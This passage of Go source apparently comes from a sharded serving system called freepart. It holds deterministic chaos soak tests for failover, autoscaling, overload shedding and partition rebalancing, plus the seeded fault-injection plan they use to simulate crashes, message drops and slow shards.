		t.Fatalf("rebalance: %v", err)
	}
	results = append(results, srv.ServeSeqKeyed(reqs[24:], keys[24:], cfg)...)
	return results, ex, mem.Encode(), meta.Encode()
}

// TestPartitionSoak is the partition-plane soak: a Zipf-skewed keyed
// population, a crash-looping shard, and a mid-window hot-range rebalance,
// all at once. For every seed (a) outputs must match the fault-free
// baseline — placement, failover, and the drill change where work runs,
// never what it computes; (b) the plane must actually engage: warm hits and
// cold misses both observed, the crash shard drained, exactly one partition
// split recorded; (c) replaying the same seed must reproduce the run
// byte-for-byte — results, per-incarnation injection logs, failover events,
// metrics (warm/cold counters included), the latency distribution, the
// placement memory, and the partition metadata. Run under -race in CI
// (make partitionsoak / make check).
func TestPartitionSoak(t *testing.T) {
	const crashShard = 1

	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	bex, err := core.NewExecutor(4, core.ProtectedShards(reg, cat, core.Default()))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(bex.Close)
	bsrv, err := apps.ProvisionDetection(bex)
	if err != nil {
		t.Fatal(err)
	}
	baseline := bsrv.ServeSeq(apps.GenDetectionRequests(19, 48))
	for i, r := range baseline {
		if r.Err != nil {
			t.Fatalf("baseline request %d: %v", i, r.Err)
		}
	}

	seeds := []int64{13, 37}
	if testing.Short() {
		seeds = seeds[:1]
	}
	for _, seed := range seeds {
		seed := seed
		t.Run(fmt.Sprintf("seed%02d", seed), func(t *testing.T) {
			results, ex, memEnc, metaEnc := partitionSoakRun(t, seed, crashShard)
			for i, r := range results {
				if r.Err != nil {
					t.Fatalf("request %d: %v", i, r.Err)
				}
				if r.Objects != baseline[i].Objects {
					t.Fatalf("request %d objects = %d, want baseline %d", i, r.Objects, baseline[i].Objects)
				}
			}
			m := ex.Metrics().Snapshot()
			if m.WarmHits == 0 || m.ColdMisses == 0 {
				t.Fatalf("warm/cold = %d/%d; the partition plane never engaged", m.WarmHits, m.ColdMisses)
			}
			if m.ShardDrains == 0 {
				t.Fatal("crash shard never drained; the soak exercised no failover")
			}
			if m.PartitionSplits != 1 {
				t.Fatalf("PartitionSplits = %d, want exactly the drill's split", m.PartitionSplits)
			}

			// Replay: the whole run must reproduce byte-for-byte.
			replay, rex, rMemEnc, rMetaEnc := partitionSoakRun(t, seed, crashShard)
			if !reflect.DeepEqual(replay, results) {
				t.Fatal("replay outputs diverged")
			}
			if string(memEnc) != string(rMemEnc) {
				t.Fatalf("placement memory diverged across replays:\n%s\n%s", memEnc, rMemEnc)
			}
			if string(metaEnc) != string(rMetaEnc) {
				t.Fatalf("partition metadata diverged across replays:\n%s\n%s", metaEnc, rMetaEnc)
			}
			for id := 0; id < 4; id++ {
				if a, b := incarnationLogs(ex, id), incarnationLogs(rex, id); !reflect.DeepEqual(a, b) {
					t.Fatalf("shard %d injection logs diverged across replays:\n%v\n%v", id, a, b)
				}
				if a, b := ex.FailoverEventsFor(id), rex.FailoverEventsFor(id); !reflect.DeepEqual(a, b) {
					t.Fatalf("shard %d failover events diverged across replays:\n%v\n%v", id, a, b)
				}
			}
			rm := rex.Metrics().Snapshot()
			if !reflect.DeepEqual(m, rm) {
				t.Fatalf("metrics diverged across replays:\n%+v\n%+v", m, rm)
			}
			if a, b := ex.Latencies().String(), rex.Latencies().String(); a != b {
				t.Fatalf("latency distributions diverged across replays:\n%s\n%s", a, b)
			}
		})
	}
}

// TestPartitionZeroCost pins the zero-cost guard: with a disabled
// PartitionConfig and no keyed placement hook installed, serving a keyed
// stream is bit-identical to the plain serving path — results, per-shard
// clocks, metrics, injection logs, failover events, and the latency
// distribution all match. The partition plane must cost nothing when off.
func TestPartitionZeroCost(t *testing.T) {
	build := func() (*core.Executor, *apps.DetectionServer) {
		t.Helper()
		reg := all.Registry()
		cat := analysis.New(reg, nil).Categorize()
		root := chaos.Scaled(23, 0.03)
		planOf := func(id, gen int) chaos.Plan { return root.ForShard(id) }
		ex, err := core.NewExecutor(4, core.ChaosShards(reg, cat, crashLoopSoakConfig(), planOf))
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(ex.Close)
		ex.SetHealthPolicy(core.HealthPolicy{FailThreshold: 1, DrainOnDegrade: true})
		srv, err := apps.ProvisionDetection(ex)
		if err != nil {
			t.Fatal(err)
		}
		return ex, srv
	}
	reqs := apps.GenDetectionRequests(29, 32)
	keys := workload.ZipfPopulation{Users: 16, S: 1.2, Seed: 29}.Keys(len(reqs))

	plainEx, plainSrv := build()
	plain := plainSrv.ServeSeq(reqs)
	keyedEx, keyedSrv := build()
	keyed := keyedSrv.ServeSeqKeyed(reqs, keys, apps.PartitionConfig{})

	if !reflect.DeepEqual(plain, keyed) {
		t.Fatal("disabled partition plane changed served results")
	}
	for id := 0; id < 4; id++ {
		if a, b := plainEx.Shard(id).K.Clock.Now(), keyedEx.Shard(id).K.Clock.Now(); a != b {
			t.Fatalf("shard %d clock diverged: %v vs %v — the disabled plane charged something", id, a, b)
		}
		if a, b := incarnationLogs(plainEx, id), incarnationLogs(keyedEx, id); !reflect.DeepEqual(a, b) {
			t.Fatalf("shard %d injection logs diverged:\n%v\n%v", id, a, b)
		}
		if a, b := plainEx.FailoverEventsFor(id), keyedEx.FailoverEventsFor(id); !reflect.DeepEqual(a, b) {
			t.Fatalf("shard %d failover events diverged:\n%v\n%v", id, a, b)
		}
	}
	if a, b := plainEx.Metrics().Snapshot(), keyedEx.Metrics().Snapshot(); !reflect.DeepEqual(a, b) {
		t.Fatalf("metrics diverged:\n%+v\n%+v", a, b)
	}
	if a, b := plainEx.Latencies().String(), keyedEx.Latencies().String(); a != b {
		t.Fatalf("latency distributions diverged:\n%s\n%s", a, b)
	}
}
