package chaos_test

import (
	"fmt"
	"reflect"
	"testing"

	"freepart.dev/freepart/internal/analysis"
	"freepart.dev/freepart/internal/apps"
	"freepart.dev/freepart/internal/chaos"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/isolation"
)

// tieredSoakConfig is crashLoopSoakConfig under the tiered isolation
// policy: loading and processing stay process-tier (restartable, chaos
// applies), visualizing and storing run as MPK domains (no chaos hook —
// a domain shares the host's fate, so injecting faults there would kill
// the whole shard rather than exercise failover).
func tieredSoakConfig() core.Config {
	cfg := crashLoopSoakConfig()
	cfg.Isolation = isolation.Tiered()
	return cfg
}

// tieredTrackRun is shardedTrackRun with the tiered policy on every shard.
func tieredTrackRun(t *testing.T, seed int64, crashShard int) ([]apps.TrackResult, *core.Executor) {
	t.Helper()
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	root := chaos.Scaled(seed, 0.03)
	crash := root
	crash.Mem.FaultProb = 1
	planOf := func(id, gen int) chaos.Plan {
		if id == crashShard && gen == 0 {
			return crash.ForShard(id)
		}
		return root.ForShard(id)
	}
	ex, err := core.NewExecutor(4, core.ChaosShards(reg, cat, tieredSoakConfig(), planOf))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(ex.Close)
	ex.SetHealthPolicy(core.HealthPolicy{FailThreshold: 1, DrainOnDegrade: true})
	srv := apps.ProvisionTracking(ex)
	return srv.ServeStreams(apps.GenTrackStreams(21, 8, 6)), ex
}

// TestIsolationChaosSoak is the sharded crash-loop soak run under the
// tiered isolation policy: mixed process- and domain-tier boundaries in
// every shard, shard 2's process-tier partitions forced into a crash loop.
// Outputs must match a fault-free tiered baseline (the baseline must also
// be tiered — domain switch costs move the virtual clock, so a nil-policy
// baseline would not be comparable), and replaying a seed must reproduce
// byte-equal injection logs and failover events. Run under -race in CI
// (make check).
func TestIsolationChaosSoak(t *testing.T) {
	const crashShard = 2

	// Fault-free baseline under the same tiered policy, no chaos.
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	bex, err := core.NewExecutor(4, core.ProtectedShards(reg, cat, core.ConfigForIsolation(isolation.Tiered())))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(bex.Close)
	baseline := apps.ProvisionTracking(bex).ServeStreams(apps.GenTrackStreams(21, 8, 6))
	for i, r := range baseline {
		if r.Err != nil {
			t.Fatalf("baseline stream %d: %v", i, r.Err)
		}
	}

	seeds := []int64{5, 23, 71}
	if testing.Short() {
		seeds = seeds[:1]
	}
	for _, seed := range seeds {
		seed := seed
		t.Run(fmt.Sprintf("seed%02d", seed), func(t *testing.T) {
			results, ex := tieredTrackRun(t, seed, crashShard)
			for i, r := range results {
				if r.Err != nil {
					t.Fatalf("stream %d: %v", i, r.Err)
				}
			}
			if !reflect.DeepEqual(results, baseline) {
				t.Fatalf("outputs diverged from fault-free tiered baseline:\nchaos:    %+v\nbaseline: %+v", results, baseline)
			}
			m := ex.Metrics().Snapshot()
			if m.ShardDrains == 0 {
				t.Fatal("crash-loop shard never drained; the soak exercised nothing")
			}

			// Replay: byte-equal injection logs per shard, per incarnation.
			results2, ex2 := tieredTrackRun(t, seed, crashShard)
			if !reflect.DeepEqual(results2, results) {
				t.Fatal("replay outputs diverged")
			}
			for id := 0; id < 4; id++ {
				l1, l2 := incarnationLogs(ex, id), incarnationLogs(ex2, id)
				if !reflect.DeepEqual(l1, l2) {
					t.Fatalf("shard %d injection logs diverged across replays:\n%v\nvs\n%v", id, l1, l2)
				}
			}
			if ev1, ev2 := ex.FailoverEventsFor(crashShard), ex2.FailoverEventsFor(crashShard); !reflect.DeepEqual(ev1, ev2) {
				t.Fatalf("failover event logs diverged:\n%v\nvs\n%v", ev1, ev2)
			}
		})
	}
}
