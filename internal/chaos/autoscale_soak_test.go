package chaos_test

import (
	"fmt"
	"reflect"
	"testing"

	"freepart.dev/freepart/internal/analysis"
	"freepart.dev/freepart/internal/apps"
	"freepart.dev/freepart/internal/chaos"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/sched"
)

// autoscaleRun serves the load ramp with the control plane scaling a
// chaos-ridden pool: 2 shards to start, shard 1 crash-looping in its first
// generation (the replacement machine is healthy, same as the failover
// soak), every shard — including ones the controller grows mid-run — under
// background-intensity faults derived from the root seed. Returns the
// stream results, the controller (for its decision log), and the executor.
func autoscaleRun(t *testing.T, seed int64, streams []apps.TrackStream) ([]apps.TrackResult, *sched.Controller, *core.Executor) {
	t.Helper()
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	root := chaos.Scaled(seed, 0.03)
	crash := root
	crash.Mem.FaultProb = 1
	planOf := func(id, gen int) chaos.Plan {
		if id == 1 && gen == 0 {
			return crash.ForShard(id)
		}
		return root.ForShard(id)
	}
	ex, err := core.NewExecutor(2, core.ChaosShards(reg, cat, crashLoopSoakConfig(), planOf))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(ex.Close)
	ex.SetHealthPolicy(core.HealthPolicy{FailThreshold: 1, DrainOnDegrade: true})
	srv := apps.ProvisionTracking(ex)
	ctl := sched.New(ex, sched.DefaultPolicy(2, 6), nil)
	results := srv.ServeRamp(streams, ctl, ctl.Batch())
	// Idle drain-out: the service keeps reconciling after the last stream
	// finishes, which is where the pool folds back to its floor.
	for i := 0; i < 6; i++ {
		ctl.Tick()
	}
	return results, ctl, ex
}

// TestAutoscaleSoak is the control-plane soak: a load ramp that forces the
// pool to scale in both directions while shard 1 crash-loops. For every
// seed (a) outputs must be byte-equal to a fixed-pool fault-free baseline
// served with no controller attached — scaling, rebalancing, batching, and
// crash-driven failover together must not change a single result; (b) the
// run must actually grow and shrink, or the soak exercised nothing; and
// (c) replaying the same seed must reproduce the sched.Event decision log
// byte for byte — the scaling analogue of the failover-log replay check.
// Run under -race in CI (make check).
func TestAutoscaleSoak(t *testing.T) {
	streams := apps.GenRampStreams(17, 4, 6, 64)

	// Fault-free fixed-pool baseline, no controller: the legacy serving
	// path the control plane must be invisible against.
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	bex, err := core.NewExecutor(4, core.ProtectedShards(reg, cat, core.Default()))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(bex.Close)
	baseline := apps.ProvisionTracking(bex).ServeRamp(streams, nil, nil)
	for i, r := range baseline {
		if r.Err != nil {
			t.Fatalf("baseline stream %d: %v", i, r.Err)
		}
	}

	seeds := []int64{7, 31, 59}
	if testing.Short() {
		seeds = seeds[:1]
	}
	for _, seed := range seeds {
		seed := seed
		t.Run(fmt.Sprintf("seed%02d", seed), func(t *testing.T) {
			results, ctl, ex := autoscaleRun(t, seed, streams)
			for i, r := range results {
				if r.Err != nil {
					t.Fatalf("stream %d: %v", i, r.Err)
				}
			}
			if !reflect.DeepEqual(results, baseline) {
				t.Fatalf("outputs diverged from fixed-pool fault-free baseline:\nautoscaled: %+v\nbaseline:   %+v", results, baseline)
			}
			m := ex.Metrics().Snapshot()
			if m.ScaleUps == 0 || m.ScaleDowns == 0 {
				t.Fatalf("ramp did not scale both ways (ups=%d downs=%d); the soak exercised nothing", m.ScaleUps, m.ScaleDowns)
			}
			if m.ShardDrains == 0 {
				t.Fatal("crash-loop shard never drained; the soak exercised nothing")
			}

			// Replay: identical outputs, byte-equal decision log, and
			// byte-equal injection logs per shard incarnation.
			results2, ctl2, ex2 := autoscaleRun(t, seed, streams)
			if !reflect.DeepEqual(results2, results) {
				t.Fatal("replay outputs diverged")
			}
			if log1, log2 := ctl.EventLog(), ctl2.EventLog(); log1 != log2 {
				t.Fatalf("sched.Event logs diverged across replays:\n%s\nvs\n%s", log1, log2)
			}
			for id := 0; id < ex.Shards(); id++ {
				l1, l2 := incarnationLogs(ex, id), incarnationLogs(ex2, id)
				if !reflect.DeepEqual(l1, l2) {
					t.Fatalf("shard %d injection logs diverged across replays:\n%v\nvs\n%v", id, l1, l2)
				}
			}
		})
	}
}
