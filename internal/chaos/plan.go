package chaos

import (
	"time"

	"freepart.dev/freepart/internal/vclock"
)

// KernelPlan configures syscall-level fault injection.
type KernelPlan struct {
	// CrashProb is the per-syscall probability of killing the process
	// mid-call (a segfault inside library code).
	CrashProb float64
	// CrashEveryN, when non-zero, crashes the process deterministically on
	// every Nth targeted syscall, independent of CrashProb — useful for
	// forcing crash loops in tests.
	CrashEveryN uint64
	// TransientProb is the per-syscall probability of an EINTR/EAGAIN-class
	// failure on interruptible I/O calls (read/write/sendto/recvfrom/
	// select); the kernel restarts the call, paying entry cost again.
	TransientProb float64
	// MaxTransient caps consecutive transient failures injected at one call
	// site, so restart loops terminate (default 3).
	MaxTransient int
	// StallProb is the per-syscall probability of a device stall on
	// ioctl/select (a camera or GUI socket that answers late).
	StallProb float64
	// Stall is the virtual time one stall charges.
	Stall vclock.Duration
}

// IPCPlan configures message-level fault injection on agent connections.
type IPCPlan struct {
	// DropProb loses a request or response; the caller times out and the
	// supervisor retries under the same sequence number.
	DropProb float64
	// DupProb delivers a request twice; the server dedup cache must absorb
	// the duplicate.
	DupProb float64
	// CorruptProb flips a payload byte in transit; checksums catch it.
	CorruptProb float64
	// StallProb delays delivery, charging Stall to the virtual clock.
	StallProb float64
	// Stall is the virtual time one slow delivery charges.
	Stall vclock.Duration
}

// DegradePlan configures the gray-failure channel: a shard that is alive —
// no crashes, no drops, every call still completes — but slow. The engine
// inflates the virtual service time of every invocation run on its shard,
// which is exactly how a gray machine presents to a serving fleet: it
// passes every crash-window health check while silently poisoning the
// pool's tail latency. Three profiles compose:
//
//   - persistent slowdown: Factor multiplies every invocation's service
//     time (a thermally throttled or half-broken machine);
//   - intermittent stalls: with StallProb an invocation is charged Stall
//     extra virtual time (a flaky disk or GC-pausing neighbour);
//   - progressive brownout: past BrownoutAfter on the shard clock the
//     effective factor grows by BrownoutSlope per virtual millisecond (a
//     machine sliding into failure), capped at MaxFactor.
//
// The zero value is inert: no randomness is consumed and no time is
// charged, so plans without a degradation profile stay byte-identical to
// the pre-gray engine — the zero-cost guard the gray campaign pins down.
type DegradePlan struct {
	// Factor is the persistent service-time multiplier; values <= 1 add
	// nothing. Factor 10 models the canonical "alive but 10x slow" shard.
	Factor float64
	// StallProb is the per-invocation probability of an intermittent stall
	// charging Stall extra virtual time.
	StallProb float64
	// Stall is the virtual time one intermittent stall charges.
	Stall vclock.Duration
	// BrownoutAfter is the shard virtual time progressive brownout starts;
	// meaningful only with BrownoutSlope > 0.
	BrownoutAfter vclock.Duration
	// BrownoutSlope grows the effective factor by this much per virtual
	// millisecond past BrownoutAfter. 0 disables brownout.
	BrownoutSlope float64
	// MaxFactor caps the effective factor (brownout included); 0 means
	// uncapped.
	MaxFactor float64
}

// active reports whether the profile charges anything.
func (d DegradePlan) active() bool {
	return d.Factor > 1 || d.StallProb > 0 || d.BrownoutSlope > 0
}

// factorAt returns the effective slowdown multiplier at shard time t.
func (d DegradePlan) factorAt(t vclock.Duration) float64 {
	f := d.Factor
	if f < 1 {
		f = 1
	}
	if d.BrownoutSlope > 0 && t > d.BrownoutAfter {
		f += d.BrownoutSlope * float64(t-d.BrownoutAfter) / float64(time.Millisecond)
	}
	if d.MaxFactor > 0 && f > d.MaxFactor {
		f = d.MaxFactor
	}
	return f
}

// MemPlan configures spurious memory faults inside agent address spaces.
type MemPlan struct {
	// FaultProb is the per-checked-write probability of a spurious fault
	// (a stray hardware fault or latent memory bug); the access is denied
	// and the owning agent crashes.
	FaultProb float64
	// Page, when non-zero, restricts injection to accesses touching that
	// page index.
	Page uint64
}

// Plan is the full, seeded fault-injection configuration. Two engines built
// from equal plans make identical decisions given the same call pattern.
type Plan struct {
	// Seed drives the engine's deterministic RNG.
	Seed int64
	// TargetPrefix restricts injection to processes whose name carries this
	// prefix; empty defaults to "agent:" so the host is never targeted.
	TargetPrefix string
	Kernel       KernelPlan
	IPC          IPCPlan
	Mem          MemPlan
	// Degrade is the gray-failure profile for the shard this plan's engine
	// is bound to. Unlike the crash channels it is shard-scoped by
	// construction: factories hand each shard its own plan (ForShard or a
	// planOf hook), so "shard 2 is 10x slow" is expressed by giving shard
	// 2's plan a Degrade profile and every other shard a zero one.
	Degrade DegradePlan
}

// WithDegrade returns a copy of the plan carrying the given gray-failure
// profile — the planOf-hook helper for soaks that degrade one shard.
func (p Plan) WithDegrade(d DegradePlan) Plan {
	p.Degrade = d
	return p
}

// DefaultTargetPrefix marks the processes chaos may touch. Host processes
// are never injected: the whole point of the fault model is that only
// partitions fail.
const DefaultTargetPrefix = "agent:"

// Scaled returns a plan exercising every fault site with probabilities
// proportional to intensity (clamped to [0, 1]). Intensity 1 is far beyond
// any realistic fault rate; soak tests run around 0.03–0.08.
func Scaled(seed int64, intensity float64) Plan {
	if intensity < 0 {
		intensity = 0
	}
	if intensity > 1 {
		intensity = 1
	}
	return Plan{
		Seed:         seed,
		TargetPrefix: DefaultTargetPrefix,
		Kernel: KernelPlan{
			CrashProb:     0.20 * intensity,
			TransientProb: 0.50 * intensity,
			MaxTransient:  3,
			StallProb:     0.30 * intensity,
			Stall:         vclock.Duration(50 * time.Microsecond),
		},
		IPC: IPCPlan{
			DropProb:    0.25 * intensity,
			DupProb:     0.30 * intensity,
			CorruptProb: 0.25 * intensity,
			StallProb:   0.30 * intensity,
			Stall:       vclock.Duration(20 * time.Microsecond),
		},
		Mem: MemPlan{
			FaultProb: 0.05 * intensity,
		},
	}
}

// DerivedSeed mixes a plan seed with a shard id into an independent stream
// seed (a splitmix64 finalizer pass). Derived streams are decorrelated from
// each other and from the root seed, yet fully determined by (seed, shard) —
// the property multi-shard chaos replay rests on.
func DerivedSeed(seed int64, shard int) int64 {
	z := uint64(seed) + uint64(shard+1)*0x9e3779b97f4a7c15
	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9
	z = (z ^ (z >> 27)) * 0x94d049bb133111eb
	return int64(z ^ (z >> 31))
}

// ForShard returns the per-shard split of the plan: shard 0 keeps the root
// seed (so a one-shard run is byte-identical to the unsharded engine — the
// serving layer's n=1 compatibility guarantee), every other shard gets a
// seed derived from (plan seed, shard id). Probabilities and target scope
// are unchanged. Each shard must run its own Engine built from its own
// split: one engine cannot be bound to two kernel clocks (Bind panics), and
// sharing one PRNG across concurrently scheduled shards would interleave
// the decision stream nondeterministically.
func (p Plan) ForShard(shard int) Plan {
	if shard == 0 {
		return p
	}
	p.Seed = DerivedSeed(p.Seed, shard)
	return p
}

// targetPrefix returns the effective process-name prefix.
func (p Plan) targetPrefix() string {
	if p.TargetPrefix == "" {
		return DefaultTargetPrefix
	}
	return p.TargetPrefix
}

// maxTransient returns the effective consecutive-transient cap.
func (p Plan) maxTransient() int {
	if p.Kernel.MaxTransient <= 0 {
		return 3
	}
	return p.Kernel.MaxTransient
}
