package chaos_test

import (
	"fmt"
	"reflect"
	"testing"

	"freepart.dev/freepart/internal/analysis"
	"freepart.dev/freepart/internal/apps"
	"freepart.dev/freepart/internal/chaos"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/report"
	"freepart.dev/freepart/internal/sched"
	"freepart.dev/freepart/internal/vclock"
)

// overloadRun serves a two-tenant tracking load at 4x pool capacity over a
// chaos-ridden pool — shard 1 crash-looping in its first generation, every
// other shard under background faults — with the bounded admission queue,
// deadline shedding, and WFQ ordering all active. Returns the stream
// results and the executor.
func overloadRun(t *testing.T, seed int64, streams []apps.TrackStream, pol core.AdmissionPolicy, quantum vclock.Duration) ([]apps.TrackResult, *core.Executor) {
	t.Helper()
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	root := chaos.Scaled(seed, 0.03)
	crash := root
	crash.Mem.FaultProb = 1
	planOf := func(id, gen int) chaos.Plan {
		if id == 1 && gen == 0 {
			return crash.ForShard(id)
		}
		return root.ForShard(id)
	}
	ex, err := core.NewExecutor(4, core.ChaosShards(reg, cat, crashLoopSoakConfig(), planOf))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(ex.Close)
	ex.SetHealthPolicy(core.HealthPolicy{FailThreshold: 1, DrainOnDegrade: true})
	// Spread each tenant across the pool: the default round-robin aliases
	// with the even tenant interleave and would pin every light stream to
	// one shard — one shard failure would then read as tenant starvation.
	ex.SetPlacement(func(session int, pool []core.PlacementInfo) int {
		return sched.TenantSpread{}.Place(session, pool)
	})
	srv := apps.ProvisionTracking(ex)
	// Overload arithmetic is relative to the streams' arrival stamps, which
	// start at zero: serve from reset clocks, as the drill does.
	for i := 0; i < ex.Shards(); i++ {
		ex.Shard(i).K.Clock.Reset()
	}
	ex.SetAdmission(pol)
	results := srv.ServeRampOpts(streams, apps.RampOptions{
		TolerateShed: true,
		Orderer:      &sched.WFQ{Quantum: quantum},
	})
	return results, ex
}

// TestOverloadSoak is the overload-under-faults soak: 4x offered load with
// a 4:1 tenant skew while shard 1 crash-loops. For every seed (a) no stream
// may fail — crashes fail over, overload sheds, and the two must compose;
// (b) the run must actually shed and actually serve, with the shed rate
// bounded away from total collapse, and the light tenant must keep getting
// service; and (c) replaying the same seed must reproduce the results, the
// per-shard failover/overload event subsequences, the injection logs, and
// the overload counters byte for byte — shedding under chaos stays inside
// the determinism envelope. Run under -race in CI (make check).
func TestOverloadSoak(t *testing.T) {
	initCost, stepCost, err := report.CalibrateTracking()
	if err != nil {
		t.Fatal(err)
	}
	const shards, heavy, light, steps, factor = 4, 12, 4, 48, 4
	perShard := vclock.Duration((heavy + light) / shards)
	streams := apps.GenTenantStreams(17, heavy, light, steps,
		stepCost*perShard/factor, initCost*(perShard+1))
	pol := core.AdmissionPolicy{QueueLimit: 3, Deadline: 2 * stepCost}
	quantum := 5 * stepCost / 4

	seeds := []int64{5, 23, 71}
	if testing.Short() {
		seeds = seeds[:1]
	}
	for _, seed := range seeds {
		seed := seed
		t.Run(fmt.Sprintf("seed%02d", seed), func(t *testing.T) {
			results, ex := overloadRun(t, seed, streams, pol, quantum)
			offered := (heavy + light) * steps
			served, dropped, lightServed := 0, 0, 0
			for i, r := range results {
				if r.Err != nil {
					t.Fatalf("stream %d: %v", i, r.Err)
				}
				served += r.Steps
				dropped += r.Dropped
				if streams[i].Tenant == 2 {
					lightServed += r.Steps
				}
			}
			if dropped == 0 {
				t.Fatal("4x overload shed nothing; the soak exercised nothing")
			}
			if served == 0 {
				t.Fatal("pool served nothing under overload")
			}
			// The bound is generous by design: chaos fault retries inflate
			// service times past the calibrated capacity (the effective
			// factor exceeds 4x), and the failed shard's stale backlog sheds
			// wholesale after failover. Collapse would be serving nothing.
			if rate := float64(dropped) / float64(offered); rate > 0.98 {
				t.Fatalf("shed rate %.2f: overload control collapsed instead of degrading", rate)
			}
			if lightServed == 0 {
				t.Fatal("light tenant starved under WFQ")
			}
			m := ex.Metrics().Snapshot()
			if m.ShardDrains == 0 {
				t.Fatal("crash-loop shard never drained; the soak exercised nothing")
			}
			if m.Rejected+m.DeadlineShed == 0 {
				t.Fatal("overload counters empty despite drops")
			}

			// Replay: identical results, per-shard event subsequences,
			// injection logs, and counters.
			results2, ex2 := overloadRun(t, seed, streams, pol, quantum)
			if !reflect.DeepEqual(results2, results) {
				t.Fatal("replay outputs diverged")
			}
			m2 := ex2.Metrics().Snapshot()
			if m.Rejected != m2.Rejected || m.DeadlineShed != m2.DeadlineShed {
				t.Fatalf("overload counters diverged across replays: %d+%d vs %d+%d",
					m.Rejected, m.DeadlineShed, m2.Rejected, m2.DeadlineShed)
			}
			for id := 0; id < shards; id++ {
				e1, e2 := ex.FailoverEventsFor(id), ex2.FailoverEventsFor(id)
				if !reflect.DeepEqual(e1, e2) {
					t.Fatalf("shard %d event subsequence diverged across replays:\n%v\nvs\n%v", id, e1, e2)
				}
				l1, l2 := incarnationLogs(ex, id), incarnationLogs(ex2, id)
				if !reflect.DeepEqual(l1, l2) {
					t.Fatalf("shard %d injection logs diverged across replays:\n%v\nvs\n%v", id, l1, l2)
				}
			}
		})
	}
}
