package chaos_test

import (
	"fmt"
	"reflect"
	"testing"
	"time"

	"freepart.dev/freepart/internal/analysis"
	"freepart.dev/freepart/internal/apps"
	"freepart.dev/freepart/internal/chaos"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/vclock"
)

// crashLoopSoakConfig is the multi-shard soak configuration: a tighter
// breaker than PR-1's default so a crash-looping partition degrades to
// in-host execution before the retry budget runs out (every call still
// completes, outputs stay baseline-identical), and a health policy that
// drains any degraded shard at its next admission — restoring full
// isolation through failover instead of serving unprotected forever.
func crashLoopSoakConfig() core.Config {
	cfg := core.ChaosConfig(nil)
	cfg.BreakerThreshold = 3
	cfg.BreakerWindow = vclock.Duration(200 * time.Millisecond)
	return cfg
}

// shardedTrackRun serves tracking streams over 4 protected shards where
// shard crashShard runs a crash-loop plan — every checked write into an
// agent space faults and kills the partition, the deterministic crash lever
// for this memory-bound stateful workload (it makes no kernel syscalls, so
// the syscall-based CrashEveryN would never fire) — and every other shard
// sees background-intensity faults derived from the root seed. Only
// generation 0 of the crash shard gets the crash-loop plan: failover models
// replacing the flaky machine with a healthy one, so the replacement serves
// the migrated sessions under background faults instead of re-entering the
// crash loop.
func shardedTrackRun(t *testing.T, seed int64, crashShard int) ([]apps.TrackResult, *core.Executor) {
	t.Helper()
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	root := chaos.Scaled(seed, 0.03)
	crash := root
	crash.Mem.FaultProb = 1
	planOf := func(id, gen int) chaos.Plan {
		if id == crashShard && gen == 0 {
			return crash.ForShard(id)
		}
		return root.ForShard(id)
	}
	ex, err := core.NewExecutor(4, core.ChaosShards(reg, cat, crashLoopSoakConfig(), planOf))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(ex.Close)
	ex.SetHealthPolicy(core.HealthPolicy{FailThreshold: 1, DrainOnDegrade: true})
	srv := apps.ProvisionTracking(ex)
	return srv.ServeStreams(apps.GenTrackStreams(21, 8, 6)), ex
}

// incarnationLogs collects every incarnation's injection log for one shard
// id, in generation order.
func incarnationLogs(ex *core.Executor, id int) []string {
	var out []string
	for _, sh := range ex.Incarnations(id) {
		if eng := sh.Chaos(); eng != nil {
			out = append(out, eng.Log())
		}
	}
	return out
}

// TestMultiShardChaosSoak is the sharded soak: several seeds, 4 shards,
// shard 2 forced into a crash loop. For every seed (a) outputs must be
// identical to the fault-free baseline — sessions on the dying shard
// migrate with exact state; (b) replaying the same seed must reproduce
// byte-equal per-shard injection logs across every shard incarnation. Run
// under -race in CI (make check).
func TestMultiShardChaosSoak(t *testing.T) {
	const crashShard = 2

	// Fault-free baseline: same streams, no chaos, no kills.
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	bex, err := core.NewExecutor(4, core.ProtectedShards(reg, cat, core.Default()))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(bex.Close)
	baseline := apps.ProvisionTracking(bex).ServeStreams(apps.GenTrackStreams(21, 8, 6))
	for i, r := range baseline {
		if r.Err != nil {
			t.Fatalf("baseline stream %d: %v", i, r.Err)
		}
	}

	seeds := []int64{5, 23, 71}
	if testing.Short() {
		seeds = seeds[:1]
	}
	for _, seed := range seeds {
		seed := seed
		t.Run(fmt.Sprintf("seed%02d", seed), func(t *testing.T) {
			results, ex := shardedTrackRun(t, seed, crashShard)
			for i, r := range results {
				if r.Err != nil {
					t.Fatalf("stream %d: %v", i, r.Err)
				}
			}
			if !reflect.DeepEqual(results, baseline) {
				t.Fatalf("outputs diverged from fault-free baseline:\nchaos:    %+v\nbaseline: %+v", results, baseline)
			}
			m := ex.Metrics().Snapshot()
			if m.ShardDrains == 0 {
				t.Fatal("crash-loop shard never drained; the soak exercised nothing")
			}

			// Replay: byte-equal injection logs per shard, per incarnation.
			results2, ex2 := shardedTrackRun(t, seed, crashShard)
			if !reflect.DeepEqual(results2, results) {
				t.Fatal("replay outputs diverged")
			}
			for id := 0; id < 4; id++ {
